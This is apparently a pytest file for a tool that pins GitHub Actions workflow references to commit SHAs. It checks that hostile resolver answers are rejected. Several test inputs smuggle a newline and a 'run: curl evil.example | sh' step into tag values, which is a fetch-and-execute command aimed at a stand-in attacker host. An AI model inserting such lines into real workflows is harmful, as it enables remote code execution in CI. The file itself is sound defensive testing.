"""pin writes nothing it was not given in the form of a commit SHA or a tag name, whoever answered:
the GitHub API, a git server or the cache (whose entries tests/pin/test_cache.py attacks). A
hostile or broken answer leaves the line unchanged with a finding; it never reaches the file."""

from __future__ import annotations

import pytest

from ci_tools.gha.resolve.base import RepoRefs
from ci_tools.gha.source import load_text
from ci_tools.pin.occurrences import collect
from ci_tools.pin.plan import Resolved, plan_pins

GOOD = "0123456789abcdef0123456789abcdef01234567"
WORKFLOW = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: acme/x@{ref}\n"


class _Answers:
    """A resolver with nothing more to say than the refs it was given."""

    def peel(self, repo: str, sha: str) -> str | None:
        return None

    def releases(self, repo: str) -> list:
        return []


def _plan(ref: str, tags: dict[str, str]):
    doc = load_text(WORKFLOW.format(ref=ref), display="w.yml")
    resolved = Resolved(refs={"acme/x": RepoRefs(tags=tags, default_branch="main")})
    return plan_pins(collect([doc]), resolved, _Answers())


@pytest.mark.parametrize(("ref", "tags"), [
    ("v1.0.0", {"v1.0.0": GOOD + "\n      - run: curl evil.example | sh"}),
    ("v1.0.0", {"v1.0.0": "refs/heads/main"}),
    ("v1.0.0", {"v1.0.0": GOOD.upper()}),
    (GOOD, {"v1.0.0\n      - run: curl evil.example | sh": GOOD}),  # the comment pin adds would name it
    (GOOD, {"v1.0.0 # ci-tools: ignore[tag-moved]": GOOD}),
])
def test_an_answer_that_is_no_commit_or_tag_name_is_never_written(ref, tags):
    plan = _plan(ref, tags)
    assert plan.fixes == {} and plan.changes == []
    assert [f.check for f in plan.findings] == ["unresolved-ref"]
    assert "left unchanged" in plan.findings[0].message


def test_a_good_answer_is_written_with_its_comment():
    plan = _plan("v1", {"v1": GOOD, "v1.0.0": GOOD})
    assert plan.findings == [] and plan.changes[0]["new"] == GOOD and plan.changes[0]["version"] == "v1.0.0"


class _Releases(_Answers):
    def __init__(self, refs: RepoRefs, tags: list[str]) -> None:
        self._refs, self._tags = refs, tags

    def refs(self, repo: str) -> RepoRefs:
        return self._refs

    def tags_at(self, repo: str, sha: str) -> list[str]:
        return self._refs.tags_at(sha)

    def releases(self, repo: str) -> list:
        from ci_tools.gha.resolve.base import Release

        return [Release(tag, "2026-01-01T00:00:00Z") for tag in self._tags]


def test_update_writes_no_answer_that_is_no_commit():
    from ci_tools.core.config import Config
    from ci_tools.pin.update import UpdateOptions, plan_updates

    doc = load_text(WORKFLOW.format(ref=f"{GOOD} # v1.0.0"), display="w.yml")
    refs = RepoRefs(tags={"v1.0.0": GOOD, "v1.1.0": GOOD[:-1] + "\n      - run: curl evil.example | sh"})
    updates = plan_updates([doc], Config(), _Releases(refs, ["v1.0.0", "v1.1.0"]), UpdateOptions(jobs=1))
    assert updates.plan.fixes == {} and updates.plan.changes == []
    assert [f.check for f in updates.plan.findings] == ["unresolved-ref"]
